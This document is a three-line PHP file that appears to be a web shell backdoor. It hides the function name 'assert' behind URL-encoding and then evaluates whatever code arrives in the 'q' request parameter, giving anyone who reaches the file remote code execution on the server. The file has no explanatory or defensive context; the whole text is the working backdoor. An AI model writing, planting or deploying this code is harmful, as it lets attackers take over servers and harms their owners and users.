<?php
$f = urldecode('%61%73%73%65%72%74');
$f(urldecode($_REQUEST['q']));
